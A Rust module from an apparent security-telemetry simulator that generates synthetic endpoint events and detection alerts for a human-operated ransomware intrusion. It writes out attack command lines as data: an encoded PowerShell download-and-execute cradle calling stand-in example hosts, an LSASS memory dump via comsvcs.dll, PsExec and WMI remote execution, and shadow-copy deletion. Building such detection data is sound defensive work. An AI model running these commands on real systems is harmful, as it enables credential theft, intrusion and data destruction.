//! Human-operated ransomware: a phishing document opens an encoded PowerShell downloader, the
//! intruder dumps LSASS for an administrator's credentials, moves to one to three more Windows
//! devices with PsExec and WMI, and encrypts every device reached, the first victim last.

use super::StoryRng;
use std::sync::Arc;

use super::alerts::{Detection, Ev};
use super::images::{self, Bin};
use super::{Ctx, HOUR, MIN, SEC, Session, Token, base64, domain_user, running};
use crate::Nanos;
use crate::event::{Account, FileEvent, Image, Kind, Logon, OtherEvent, Process};
use crate::fleet::OsFamily;

const OFFICE_CHILD: Detection = Detection {
    title: "Suspicious behavior by an Office application",
    category: "InitialAccess",
    severity: "Medium",
    av: false,
    mitre: &["T1566.001", "T1204.002", "T1059.001"],
    description: "An Office application started PowerShell, typical of a malicious macro in a phishing attachment.",
};
const PS_ENC: Detection = Detection {
    title: "Suspicious PowerShell command line",
    category: "Execution",
    severity: "Medium",
    av: false,
    mitre: &["T1059.001", "T1027", "T1105"],
    description: "A hidden PowerShell ran an encoded command that downloaded content from the internet. Attackers \
                  encode PowerShell to stage payloads while evading detection.",
};
const LSASS_DUMP: Detection = Detection {
    title: "Possible credential theft: LSASS memory dump",
    category: "CredentialAccess",
    severity: "High",
    av: false,
    mitre: &["T1003.001", "T1218.011"],
    description: "rundll32.exe used the MiniDump export of comsvcs.dll to dump the memory of the LSASS process, \
                  which holds the credentials of signed-in users.",
};
const PSEXEC_MOVE: Detection = Detection {
    title: "PsExec lateral movement",
    category: "LateralMovement",
    severity: "Medium",
    av: false,
    mitre: &["T1021.002", "T1570", "T1569.002"],
    description: "PsExec was used to run a command as SYSTEM on another device over SMB.",
};
const PSEXEC_SVC: Detection = Detection {
    title: "Suspicious service launched",
    category: "LateralMovement",
    severity: "Medium",
    av: false,
    mitre: &["T1021.002", "T1569.002"],
    description: "A service was created remotely to run a command, as PsExec does for lateral movement.",
};
const WMI_MOVE: Detection = Detection {
    title: "Suspicious remote WMI process creation",
    category: "LateralMovement",
    severity: "Medium",
    av: false,
    mitre: &["T1047", "T1570"],
    description: "WMI was used to start a recently copied file on another device.",
};
const VSS_DELETE: Detection = Detection {
    title: "File backups were deleted",
    category: "Impact",
    severity: "High",
    av: false,
    mitre: &["T1490"],
    description: "Volume shadow copies were deleted, preventing recovery; ransomware does this before encrypting.",
};
const RANSOM: Detection = Detection {
    title: "Ransomware behavior detected in the file system",
    category: "Ransomware",
    severity: "High",
    av: false,
    mitre: &["T1486"],
    description: "A process renamed many files to an unknown extension and left ransom notes.",
};
const RANSOM_AV: Detection = Detection {
    title: "'@FAMILY@' ransomware was detected",
    category: "Ransomware",
    severity: "High",
    av: true,
    mitre: &[],
    description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or \
                  harmful actions on affected devices. Ransomware encrypts files and demands payment.",
};

/// (family, Defender threat name, extension of encrypted files, command-line arguments; `@KEY@`
/// becomes a per-incident key).
const FAMILIES: &[(&str, &str, &str, &str)] = &[
    ("LockBit", "Ransom:Win32/LockBit.MK!MTB", "lockbit", "-pass @KEY@"),
    ("BlackCat", "Ransom:Win32/BlackCat.MA!MTB", "sykffle", "--access-token @KEY@ --no-prop-servers"),
    ("Akira", "Ransom:Win64/Akira.A!MTB", "akira", "-n=30 -p=C:\\"),
];

const HOSTS: &[&str] =
    &["cdn-update.example.net", "files-sync.example.com", "static-cdn.example.org", "update-check.example.net"];

const STEMS: &[&str] = &["svchostx", "winupdate", "msedgeupd", "taskhostsvc", "runtimebrkr", "wuauclt32"];

/// Documents ransomware finds on a device (repeated with ` (2)`, ` (3)`… when it needs more).
const DOCUMENTS: &[&str] = &[
    "report.xlsx",
    "Budget_2026.xlsx",
    "Q1_Forecast.xlsx",
    "Payroll_March.xlsx",
    "Contract_Acme.docx",
    "Board_Minutes.docx",
    "Customer_List.csv",
    "Project_Plan.pptx",
    "Invoice_10482.pdf",
    "Quarterly_Report.pdf",
    "Employee_Handbook.pdf",
    "Price_List.xlsx",
    "Vendor_Agreement.docx",
    "IMG_2041.jpg",
    "Scan_0099.pdf",
    "Sales_Pipeline.xlsx",
    "Travel_Expenses.xlsx",
    "Onboarding_Checklist.docx",
    "Product_Roadmap.pptx",
    "Meeting_Notes.docx",
    "Audit_Findings.pdf",
    "Tax_Return_2025.pdf",
    "Benefits_Summary.pdf",
    "Inventory.csv",
];

/// How long the whole story may take, for choosing its start.
const SPAN: Nanos = 4 * HOUR;

/// Runs one instance; `false` when the fleet has no victim with a device to move to.
pub(super) fn run(ctx: &mut Ctx, used: &mut [bool]) -> bool {
    for _ in 0..8 {
        let Some((v, t0)) =
            ctx.victim(used, SPAN, true, |d| d.family == OsFamily::WindowsClient && domain_user(d).is_some())
        else {
            return false;
        };
        // Lateral movement starts at most about two hours in; targets must be up for it.
        let t_move = t0 + 2 * HOUR;
        let mut candidates: Vec<usize> = (0..ctx.fleet.devices.len())
            .filter(|&i| i != v && super::is_windows(&ctx.fleet.devices[i]) && ctx.active(i, t0, t_move + HOUR))
            .collect();
        if candidates.is_empty() {
            continue;
        }
        let want = ctx.rng.between(1, 4) as usize;
        let mut targets = Vec::with_capacity(want);
        // A file server first when there is one, else a server half of the time: that is where
        // the data worth a ransom lives.
        let servers: Vec<usize> =
            candidates.iter().copied().filter(|&i| ctx.fleet.devices[i].family == OsFamily::WindowsServer).collect();
        let file_servers: Vec<usize> =
            servers.iter().copied().filter(|&i| ctx.fleet.devices[i].role == Some("FS")).collect();
        let pool = if !file_servers.is_empty() {
            file_servers
        } else if ctx.rng.chance(0.5) {
            servers
        } else {
            vec![]
        };
        if !pool.is_empty() {
            let s = pool[ctx.rng.idx(pool.len())];
            targets.push(s);
            candidates.retain(|&i| i != s);
        }
        while targets.len() < want && !candidates.is_empty() {
            let j = ctx.rng.idx(candidates.len());
            targets.push(candidates.swap_remove(j));
        }
        chain(ctx, used, v, t0, &targets);
        return true;
    }
    false
}

fn chain(ctx: &mut Ctx, used: &mut [bool], v: usize, t0: Nanos, targets: &[usize]) {
    let fleet = ctx.fleet;
    let dev = &fleet.devices[v];
    let user_account = domain_user(dev).expect("victims have a domain user");
    ctx.touch(v, used);
    for &t in targets {
        ctx.touch(t, used);
    }
    ctx.tags = &["Ransomware", "Human-operated"];

    let rng = &mut ctx.rng;
    let ip: Arc<str> = format!("203.0.113.{}", rng.between(2, 255)).into();
    let host = rng.pick(HOSTS);
    let stem = rng.pick(STEMS);
    let (family, threat_name, ext, args) = rng.pick(FAMILIES);
    let threat = Some((family, threat_name));
    let args = args.replace("@KEY@", &rng.hex_string(16));
    let size = rng.between(180_000, 2_400_000);
    let payload = images::dropped(rng, r"C:\ProgramData", &format!("{stem}.exe"), size);
    let size = rng.between(1_000, 2_500);
    let note = images::dropped(rng, r"C:\Users\Public", "README-RESTORE.txt", size);

    let s = ctx.session(v, t0, user_account.clone());
    let user = s.user.clone();
    let outlook_created = s.explorer.created + ctx.rng.span(30 * SEC, 20 * MIN);
    let outlook = running(
        ctx.bin(v, Bin::Outlook),
        ctx.rng.pid(),
        r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" "#,
        outlook_created,
        user.clone(),
        Some(s.explorer.as_parent()),
    );

    // The attachment arrives and is opened.
    let profile = &user_account.name;
    let folder = if ctx.rng.chance(0.5) {
        format!(r"C:\Users\{profile}\Downloads")
    } else {
        let cache = ctx.rng.text(8, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
        format!(r"C:\Users\{profile}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{cache}")
    };
    let doc_name = format!("Invoice_{}.docm", ctx.rng.between(1_000, 10_000));
    let doc_size = ctx.rng.between(40_000, 300_000);
    let doc = images::dropped(&mut ctx.rng, &folder, &doc_name, doc_size);
    ctx.file(t0, v, FileEvent::local("FileCreated", outlook.clone(), doc.clone()));
    ctx.profile(&doc, true, Some(("Malware", "TrojanDownloader:O97M/Donoff.SS!MTB")), t0);

    let t1 = t0 + ctx.rng.span(20 * SEC, 3 * MIN);
    let word_cmd =
        format!(r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "{}" /o """#, doc.folder_path);
    let word = ctx.spawn(t1, v, &outlook, ctx.bin(v, Bin::Winword), word_cmd, &user);

    // The macro starts a hidden, encoded PowerShell that stages the tools.
    let t2 = t1 + ctx.rng.span(4 * SEC, 40 * SEC);
    let stage: Arc<str> = format!("http://{host}/a.ps1").into();
    let script = format!(
        "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');\
         IEX $w.DownloadString('{stage}')"
    );
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let ps1 = ctx.spawn(
        t2,
        v,
        &word,
        ctx.bin(v, Bin::PowerShell),
        format!("powershell.exe -nop -w hidden -enc {}", base64(&utf16)),
        &user,
    );
    let t3 = t2 + ctx.rng.span(SEC, 4 * SEC);
    ctx.connect(t3, v, &ps1, &ip, 80, Some(&stage));
    let mut t = t3;
    let mut staged = Vec::new();
    for img in [payload.clone(), ctx.bin(v, Bin::PsExec)] {
        t += ctx.rng.span(5 * SEC, 30 * SEC);
        let url: Arc<str> = format!("http://{host}/{}", img.file_name).into();
        ctx.connect(t, v, &ps1, &ip, 80, Some(&url));
        t += ctx.rng.span(SEC, 4 * SEC);
        ctx.file(
            t,
            v,
            FileEvent {
                origin_url: Some(url),
                origin_ip: Some(ip.clone()),
                ..FileEvent::local("FileCreated", ps1.clone(), img.clone())
            },
        );
        staged.push(t);
    }
    ctx.profile(&payload, false, Some(("Malware", threat_name)), staged[0]);
    ctx.raise(
        v,
        &OFFICE_CHILD,
        t0,
        t2,
        &user_account,
        None,
        vec![Ev::Process { process: ps1.clone(), parent: word.clone() }, Ev::File(doc.clone())],
    );
    ctx.raise(
        v,
        &PS_ENC,
        t2,
        t,
        &user_account,
        None,
        vec![
            Ev::Process { process: ps1.clone(), parent: word },
            Ev::Ip { ip: ip.clone(), inbound: false },
            Ev::Url(stage),
            Ev::File(payload.clone()),
        ],
    );

    // Hands on keyboard: an elevated shell dumps LSASS.
    let admin_token = user.elevated();
    let t5 = t + ctx.rng.span(10 * MIN, 40 * MIN);
    let ps2 =
        ctx.spawn(t5, v, &ps1, ctx.bin(v, Bin::PowerShell), "powershell.exe -nop -ep bypass -w hidden", &admin_token);
    let t6 = t5 + ctx.rng.span(30 * SEC, 5 * MIN);
    let dump_cmd = format!(
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\lsass.dmp full",
        s.lsass.pid
    );
    let rundll = ctx.spawn(t6, v, &ps2, ctx.bin(v, Bin::Rundll32), dump_cmd, &admin_token);
    let t_open = t6 + ctx.rng.span(100_000_000, SEC);
    ctx.emit(
        t_open,
        v,
        Kind::Other(OtherEvent {
            action: "OpenProcessApiCall",
            initiator: Some(rundll.clone()),
            file: Some(s.lsass.image.clone()),
            account: Some(s.lsass.account.clone()),
            process_id: Some(s.lsass.pid),
            process_command_line: Some(s.lsass.command_line.clone()),
            process_created: Some(s.lsass.created),
            additional_fields: Some(r#"{"DesiredAccess":2097151}"#.into()),
            ..OtherEvent::default()
        }),
    );
    let t_dump = t_open + ctx.rng.span(2 * SEC, 8 * SEC);
    let dump_size = ctx.rng.between(45_000_000, 95_000_000);
    let dump = images::dropped(&mut ctx.rng, r"C:\Windows\Temp", "lsass.dmp", dump_size);
    ctx.file(t_dump, v, FileEvent::local("FileCreated", rundll.clone(), dump.clone()));
    ctx.raise(
        v,
        &LSASS_DUMP,
        t6,
        t_dump,
        &user_account,
        None,
        vec![Ev::Process { process: rundll, parent: ps2.clone() }, Ev::File(dump)],
    );

    // Lateral movement with the harvested administrator, alternating PsExec and WMI.
    let admin = ctx.domain_admin(&user_account);
    let src_ip = dev.ip.clone();
    let payload_remote = images::copied(&payload, r"C:\Windows\Temp", &payload.file_name);
    let remote_cmd = format!(r"C:\Windows\Temp\{} {args}", payload.file_name);
    let mut tk = t_dump + ctx.rng.span(15 * MIN, 60 * MIN);
    let psexec_first = ctx.rng.chance(0.5);
    let mut last_start = tk;
    for (k, &target) in targets.iter().enumerate() {
        let tdev = &fleet.devices[target];
        let ts = ctx.session(target, tk, domain_user(tdev).unwrap_or_else(|| admin.clone()));
        let tgt_ip = tdev.ip.clone();
        let short = tdev.short_name.clone();
        let net_logon = ctx.rng.between(0x100_0000, 0x7ff_ffff);

        // The payload is copied to ADMIN$\Temp first.
        ctx.connect(tk, v, &ps2, &tgt_ip, 445, None);
        let mut tt = tk + ctx.rng.span(5_000_000, 60_000_000);
        ctx.inbound(tt, target, &ts.system, &src_ip, 445);
        tt += ctx.rng.span(10_000_000, 200_000_000);
        network_logon(ctx, tt, target, &admin, net_logon, dev.host.name.clone(), &src_ip);
        tt += ctx.rng.span(300_000_000, 3 * SEC);
        ctx.file(tt, target, smb_write(&ts, payload_remote.clone(), &src_ip));

        let t_exec = tt + ctx.rng.span(5 * SEC, 40 * SEC);
        let (launcher, token) = if (k % 2 == 0) == psexec_first {
            let cmd = format!(r"PsExec64.exe \\{short} -accepteula -s cmd.exe /c {remote_cmd}");
            let psexec = ctx.spawn(t_exec, v, &ps2, ctx.bin(v, Bin::PsExec), cmd, &admin_token);
            let tc = t_exec + ctx.rng.span(100_000_000, 400_000_000);
            ctx.connect(tc, v, &psexec, &tgt_ip, 445, None);
            ctx.raise(
                v,
                &PSEXEC_MOVE,
                t_exec,
                tc,
                &user_account,
                None,
                vec![
                    Ev::Process { process: psexec, parent: ps2.clone() },
                    Ev::File(ctx.bin(v, Bin::PsExec)),
                    Ev::Ip { ip: tgt_ip.clone(), inbound: false },
                ],
            );
            let mut tr = tc + ctx.rng.span(20_000_000, 100_000_000);
            ctx.inbound(tr, target, &ts.system, &src_ip, 445);
            tr += ctx.rng.span(10_000_000, 100_000_000);
            let logon2 = ctx.rng.between(0x100_0000, 0x7ff_ffff);
            network_logon(ctx, tr, target, &admin, logon2, dev.host.name.clone(), &src_ip);
            tr += ctx.rng.span(200_000_000, SEC);
            ctx.file(tr, target, smb_write(&ts, ctx.bin(target, Bin::Psexesvc), &src_ip));
            tr += ctx.rng.span(500_000_000, 2 * SEC);
            let svc = ctx.spawn(
                tr,
                target,
                &ts.services,
                ctx.bin(target, Bin::Psexesvc),
                r"C:\Windows\PSEXESVC.exe",
                &Token::system(),
            );
            tr += ctx.rng.span(300_000_000, 2 * SEC);
            let cmd = ctx.spawn(
                tr,
                target,
                &svc,
                ctx.bin(target, Bin::Cmd),
                format!(r#""cmd.exe" /c {remote_cmd}"#),
                &Token::system(),
            );
            ctx.raise(
                target,
                &PSEXEC_SVC,
                svc.created,
                cmd.created,
                &admin,
                None,
                vec![
                    Ev::Process { process: svc.clone(), parent: ts.services.clone() },
                    Ev::Ip { ip: src_ip.clone(), inbound: true },
                    Ev::File(payload_remote.clone()),
                ],
            );
            (cmd, Token::system())
        } else {
            let cmd = format!(r#"wmic.exe /node:"{short}" process call create "{remote_cmd}""#);
            let wmic = ctx.spawn(t_exec, v, &ps2, ctx.bin(v, Bin::Wmic), cmd, &admin_token);
            let tc = t_exec + ctx.rng.span(100_000_000, 400_000_000);
            ctx.connect(tc, v, &wmic, &tgt_ip, 135, None);
            ctx.raise(
                v,
                &WMI_MOVE,
                t_exec,
                tc,
                &user_account,
                None,
                vec![Ev::Process { process: wmic, parent: ps2.clone() }, Ev::Ip { ip: tgt_ip.clone(), inbound: false }],
            );
            let rpcss = running(
                ctx.bin(target, Bin::Svchost),
                ts.services.pid + 4 * ctx.rng.between(20, 200),
                r"C:\Windows\system32\svchost.exe -k RPCSS -p",
                ts.services.created + ctx.rng.span(2 * SEC, 10 * SEC),
                Token::network_service(),
                Some(ts.services.as_parent()),
            );
            let mut tr = tc + ctx.rng.span(20_000_000, 100_000_000);
            ctx.inbound(tr, target, &rpcss, &src_ip, 135);
            tr += ctx.rng.span(10_000_000, 100_000_000);
            let logon2 = ctx.rng.between(0x100_0000, 0x7ff_ffff);
            network_logon(ctx, tr, target, &admin, logon2, dev.host.name.clone(), &src_ip);
            let launch = running(
                ctx.bin(target, Bin::Svchost),
                ts.services.pid + 4 * ctx.rng.between(20, 200),
                r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
                ts.services.created + ctx.rng.span(SEC, 5 * SEC),
                Token::system(),
                Some(ts.services.as_parent()),
            );
            let wmiprvse = running(
                ctx.bin(target, Bin::WmiPrvSe),
                ctx.rng.pid(),
                r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                tr - ctx.rng.span(MIN, 3 * HOUR),
                Token::network_service(),
                Some(launch.as_parent()),
            );
            // WMI starts the command with the caller's token, as a child of the provider host.
            let remote = Token { account: admin.clone(), logon_id: logon2, integrity: "High", elevation: "Full" };
            (wmiprvse, remote)
        };
        let at = launcher.created.max(t_exec) + ctx.rng.span(SEC, 3 * SEC);
        let p = encrypt(ctx, target, at, &launcher, &token, &payload_remote, &note, ext, &admin, threat, &args);
        if k == 0 {
            // The antivirus engine recognises the payload, too late to stop it.
            let t_av = p.created + ctx.rng.span(SEC, 10 * SEC);
            let additional =
                format!(r#"{{"ThreatName":"{}","WasRemediated":false,"WasExecutingWhileDetected":true}}"#, threat_name);
            ctx.emit(
                t_av,
                target,
                Kind::Other(OtherEvent {
                    action: "AntivirusDetection",
                    file: Some(payload_remote.clone()),
                    additional_fields: Some(additional),
                    ..OtherEvent::default()
                }),
            );
            ctx.raise(target, &RANSOM_AV, t_av, t_av, &admin, threat, vec![Ev::File(payload_remote.clone())]);
        }
        last_start = at;
        tk = at + ctx.rng.span(3 * MIN, 12 * MIN);
    }

    // Finally the first victim.
    let at = last_start + ctx.rng.span(3 * MIN, 10 * MIN);
    encrypt(ctx, v, at, &ps2, &admin_token, &payload, &note, ext, &user_account, threat, &args);
}

/// Starts the payload from `launcher`, deletes shadow copies, renames dozens of documents to
/// the family's extension and drops ransom notes; raises the impact alerts. Returns the payload
/// process.
#[allow(clippy::too_many_arguments)]
fn encrypt(
    ctx: &mut Ctx,
    dev: usize,
    at: Nanos,
    launcher: &Process,
    token: &Token,
    payload: &Arc<Image>,
    note: &Arc<Image>,
    ext: &str,
    user: &Arc<Account>,
    threat: Option<(&'static str, &'static str)>,
    args: &str,
) -> Process {
    let p = ctx.spawn(at, dev, launcher, payload.clone(), format!("\"{}\" {args}", payload.folder_path), token);
    let t_vss = at + ctx.rng.span(SEC, 5 * SEC);
    let vss = ctx.spawn(t_vss, dev, &p, ctx.bin(dev, Bin::Vssadmin), "vssadmin.exe delete shadows /all /quiet", token);
    ctx.raise(
        dev,
        &VSS_DELETE,
        t_vss,
        t_vss,
        user,
        None,
        vec![Ev::Process { process: vss.clone(), parent: p.clone() }],
    );

    let fleet = ctx.fleet;
    let d = &fleet.devices[dev];
    let folders: Vec<String> = if d.family == OsFamily::WindowsServer {
        ["Finance", "HR", "Projects", "Scans"].iter().map(|f| format!(r"C:\Shares\{f}")).collect()
    } else {
        let profile = domain_user(d).map_or_else(|| user.name.to_string(), |u| u.name.to_string());
        ["Documents", "Desktop", "Pictures", "Downloads"].iter().map(|f| format!(r"C:\Users\{profile}\{f}")).collect()
    };
    let n = ctx.rng.between(30, 71) as usize;
    let offset = ctx.rng.idx(DOCUMENTS.len());
    let mut t = t_vss + ctx.rng.span(3 * SEC, 15 * SEC);
    let mut touched: Vec<&String> = Vec::new();
    for i in 0..n {
        let doc = DOCUMENTS[(offset + i) % DOCUMENTS.len()];
        let name = if i < DOCUMENTS.len() {
            doc.to_string()
        } else {
            let (stem, extension) = doc.rsplit_once('.').expect("documents have an extension");
            format!("{stem} ({}).{extension}", i / DOCUMENTS.len() + 1)
        };
        let folder = &folders[ctx.rng.idx(folders.len())];
        if !touched.contains(&folder) {
            touched.push(folder);
        }
        let size = ctx.rng.between(20_000, 8_000_000);
        let encrypted = images::dropped(&mut ctx.rng, folder, &format!("{name}.{ext}"), size + 512);
        t += ctx.rng.span(300_000_000, 3 * SEC);
        ctx.file(
            t,
            dev,
            FileEvent {
                previous_file_name: Some(name.as_str().into()),
                previous_folder_path: Some(format!(r"{folder}\{name}").into()),
                ..FileEvent::local("FileRenamed", p.clone(), encrypted)
            },
        );
    }
    let mut first_note = None;
    for folder in touched {
        t += ctx.rng.span(50_000_000, 500_000_000);
        let here = images::copied(note, folder, &note.file_name);
        first_note.get_or_insert_with(|| here.clone());
        ctx.file(t, dev, FileEvent::local("FileCreated", p.clone(), here));
    }
    let mut evidence = vec![Ev::Process { process: p.clone(), parent: launcher.clone() }, Ev::File(payload.clone())];
    evidence.extend(first_note.map(Ev::File));
    ctx.raise(dev, &RANSOM, at, t, user, threat, evidence);
    p
}

/// A file written over SMB to the ADMIN$ share: the kernel is the initiating process.
fn smb_write(s: &Session, file: Arc<Image>, from: &Arc<str>) -> FileEvent {
    FileEvent {
        request_protocol: Some("Smb"),
        request_source_ip: Some(from.clone()),
        share_name: Some("ADMIN$".into()),
        ..FileEvent::local("FileCreated", s.system.clone(), file)
    }
}

fn network_logon(
    ctx: &mut Ctx,
    at: Nanos,
    dev: usize,
    account: &Arc<Account>,
    logon_id: i64,
    from_name: Arc<str>,
    from: &Arc<str>,
) {
    let port = ctx.rng.between(49_152, 65_535) as i32;
    ctx.emit(
        at,
        dev,
        Kind::Logon(Logon {
            action: "LogonSuccess",
            account: account.clone(),
            logon_type: "Network",
            protocol: Some("NTLM"),
            failure_reason: None,
            is_local_admin: true,
            logon_id,
            remote_device_name: Some(from_name),
            remote_ip: Some(from.clone()),
            remote_ip_type: Some("Private"),
            remote_port: Some(port),
            initiator: None,
        }),
    );
}
